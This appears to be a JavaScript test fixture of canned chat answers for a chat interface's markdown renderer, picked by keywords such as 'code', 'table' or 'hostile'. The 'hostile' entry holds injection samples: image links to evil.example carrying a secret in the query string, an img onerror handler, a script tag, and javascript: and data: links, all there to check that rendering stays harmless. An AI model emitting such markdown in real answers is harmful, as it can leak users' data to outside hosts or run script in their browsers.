// The scripted answers. A word in the question chooses one.
import { diagrams, everything, formulas, manual, thought } from './markdown.mjs'

const code = `Here is a small server:

\`\`\`go
package main

import (
	"fmt"
	"net/http"
)

// main serves one greeting; everything else is left to the standard library.
func main() {
	http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "Hello from a very long line of code that has to scroll sideways on a phone")
	})
	http.ListenAndServe("127.0.0.1:8080", nil)
}
\`\`\`

Run it with \`go run .\` and open **http://127.0.0.1:8080**.
`

const table = `A short comparison of the two stores:

| | SQLite | PostgreSQL |
|---|---|---|
| Set-up | none, one file | a server to run |
| Writers at once | one | many |
| Backup | copy while it runs | \`pg_dump\`, or continuous |
| Good for | one machine, a team | several machines |

In short:

1. Start with **SQLite**: it needs no care.
2. Move to **PostgreSQL** when
   - several servers share the data, or
   - your operators know it already.

> Both run the same tests, so the move is a setting and not a project.
`

const hostile = `Some text that must stay harmless.

![a secret](https://evil.example/log?q=secret) and ![](http://evil.example/x.png)

<img src="https://evil.example/raw.png" onerror="alert(1)"><script>alert(2)</script>

[click me](javascript:alert(3)) [and me](data:text/html,x) [a real link](https://example.com/page)
`

const plain = `A **context window** is how much text a model can look at while it answers: your question, the conversation so far, and the answer itself.

Three things follow from that:

- **Long chats get slower.** Everything in the window is read again for each answer, unless the engine has kept its work.
- **Old messages can fall out.** When the window is full, something has to give. Parley tells you instead of cutting in silence.
- **Size is counted in tokens**, about ¾ of an English word each. “Größe” or “日本語” take more, an emoji 🙂 as well.

If you want to stay well inside it, begin a new chat for a new subject.
`

/** What the model answers, how slowly, and how it ends. */
export function answerFor(question) {
  const q = question.toLowerCase()
  if (q.includes('fail')) return { text: 'The answer begins and then ', fault: { code: 'internal', message: 'the engine stopped', request_id: 'req_mock' } }
  if (q.includes('length')) return { text: plain, finish: 'length' }
  if (q.includes('hostile')) return { text: hostile }
  if (q.includes('everything')) return { text: everything }
  if (q.includes('formula')) return { text: formulas }
  if (q.includes('diagram')) return { text: diagrams }
  if (q.includes('think')) return { text: thought }
  if (q.includes('manual')) return { text: manual }
  if (q.includes('code')) return { text: code }
  if (q.includes('table') || q.includes('sqlite')) return { text: table }
  if (q.includes('long')) return { text: Array.from({ length: 12 }, (_, i) => `## Part ${i + 1}\n\n${plain}`).join('\n') }
  if (q.includes('short')) return { text: 'Yes.' }
  return { text: plain, queue: q.includes('queue') ? 3 : 0 }
}
